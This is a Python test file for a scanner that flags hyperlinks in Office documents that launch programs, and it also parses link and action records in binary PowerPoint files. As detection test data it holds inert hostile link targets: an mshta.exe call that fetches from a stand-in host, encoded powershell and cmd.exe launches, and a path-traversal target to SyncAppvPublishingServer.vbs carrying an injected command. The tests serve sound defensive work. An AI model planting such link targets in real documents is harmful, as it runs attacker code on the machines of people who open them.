"""Hyperlinks: which of them start a program."""

from __future__ import annotations

import struct

import pytest

from emoscan.formats.links import hyperlink
from emoscan.model import Child, Fact
from emoscan.parse import pptbinary


def command(target: str) -> str:
    facts = [item for item in hyperlink(target, "hyperlink") if isinstance(item, Fact)]
    assert [(fact.kind, fact.value, fact.how) for fact in facts] == [("link.external", target, "hyperlink")]
    children = [item for item in hyperlink(target, "hyperlink") if isinstance(item, Child)]
    assert all(child.kind == "script.cmd" for child in children)
    return children[0].data.decode() if children else ""


@pytest.mark.parametrize(
    ("target", "wanted"),
    [
        ("https://www.example.test/setup.exe", ""),
        ("mailto:a@example.test?subject=setup.exe", ""),
        ("file:///\\\\fs1\\reports\\2021.xlsx", ""),
        ("Sheet2!A1", ""),
        ("..\\minutes\\2021-03.docx", ""),
        ("file:///C:\\Windows\\System32\\mshta.exe http://files.example.test/a", "mshta.exe http://files.example.test/a"),
        ("powershell%20-NoP%20-c%20echo", "powershell -NoP -c echo"),
        ("file:///C:\\shared\\cmd", ""),
        ("cmd.exe%20/c%20echo%20inert", "cmd.exe /c echo inert"),
        (
            "..\\..\\windows/System32/SyncAppvPublishingServer.vbs\"%20;echo 'inert'",
            "wscript.exe SyncAppvPublishingServer.vbs ;echo 'inert'",
        ),
    ],
)
def test_links_that_start_a_program(target: str, wanted: str) -> None:
    assert command(target) == wanted


def record(type_: int, body: bytes, version: int = 0, instance: int = 0) -> bytes:
    return struct.pack("<HHI", version | instance << 4, type_, len(body)) + body


def text(value: str, instance: int) -> bytes:
    return record(0x0FBA, value.encode("utf-16-le"), instance=instance)


def test_links_and_actions_of_binary_presentations() -> None:
    link = record(0x0FD7, record(0x0FD3, b"\1\0\0\0") + text("shown", 0) + text("http://a.example.test/", 1), version=15)
    runs = record(0x0FF2, record(0x0FF3, bytes(8) + b"\2" + bytes(7)) + text("calc.exe", 0), version=15)
    macro = record(0x0FF2, record(0x0FF3, bytes(8) + b"\1" + bytes(7)) + text("Main", 0), version=15, instance=1)
    assert list(pptbinary.hyperlinks(b"xx" + link + link + runs + macro)) == ["http://a.example.test/", "calc.exe"]
    assert list(pptbinary.hyperlinks((link + runs)[:-20])) == ["http://a.example.test/"]
